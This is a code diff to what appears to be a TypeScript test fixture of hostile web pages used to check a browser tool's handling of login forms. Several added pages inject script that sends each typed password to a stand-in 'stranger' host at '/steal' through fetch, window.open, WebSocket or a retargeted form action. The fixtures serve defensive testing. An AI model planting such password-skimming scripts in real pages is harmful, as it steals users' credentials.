@@ -16,6 +16,10 @@ const page =
   (_request, response) =>
     response.writeHead(200, { 'content-type': 'text/html' }).end(html);
 
+/** A login page whose script does something with the password as it is typed. */
+const typedTo = (script: string): string =>
+  `${loginForm}<script>document.querySelector('[type=password]').oninput = (event) => ${script}</script>`;
+
 /** First the page, then what comes of its form. */
 const form =
   (html: string, then: Hostile['answer']): Hostile['answer'] =>
@@ -73,7 +77,7 @@ export const pages: Readonly<Record<string, HostilePage>> = {
   'never answers its form': {
     answer: () => form('<form method=post><button>Accept</button></form>', () => {}),
     ends: {
-      failure: /^(the pages had led nowhere after 8000 ms|the consent page could not be used: Timeout)/,
+      failure: /^(the pages had led nowhere after 12000 ms|the consent page could not be used: Timeout)/,
     },
   },
   'keeps its renderer busy once it is touched': {
@@ -96,10 +100,28 @@ export const pages: Readonly<Record<string, HostilePage>> = {
   },
   'tells a stranger what is typed': {
     answer: (stranger) =>
-      page(
-        `${loginForm}<script>document.querySelector('[type=password]').oninput = (event) => fetch('${stranger}/steal?' + encodeURIComponent(event.target.value))</script>`,
-      ),
+      page(typedTo(`fetch('${stranger}/steal?' + encodeURIComponent(event.target.value))`)),
     ends: { stops: /^the login form sends the password on to/ },
+  },
+  'has a form for a stranger in a new window': {
+    answer: (stranger) => page(loginForm.replace('action=/login', `target=_blank action=${stranger}/steal`)),
+    ends: { status: 200 },
+  },
+  'opens a window for what is typed': {
+    answer: (stranger) => page(typedTo(`open('${stranger}/steal?' + event.target.value)`)),
+    ends: { status: 200 },
+  },
+  'opens a WebSocket for what is typed': {
+    answer: (stranger) =>
+      page(typedTo(`new WebSocket('${stranger.replace('http', 'ws')}/steal?' + event.target.value)`)),
+    ends: { stops: /^the login form sends the password on to/ },
+  },
+  'opens a WebSocket, and tells what is typed later': {
+    answer: (stranger) =>
+      page(
+        `<script>const socket = new WebSocket('${stranger.replace('http', 'ws')}/steal')</script>${typedTo('socket.send(event.target.value)')}`,
+      ),
+    ends: { status: 200 },
   },
   'is at a stranger': {
     answer: (stranger) => (_request, response) =>
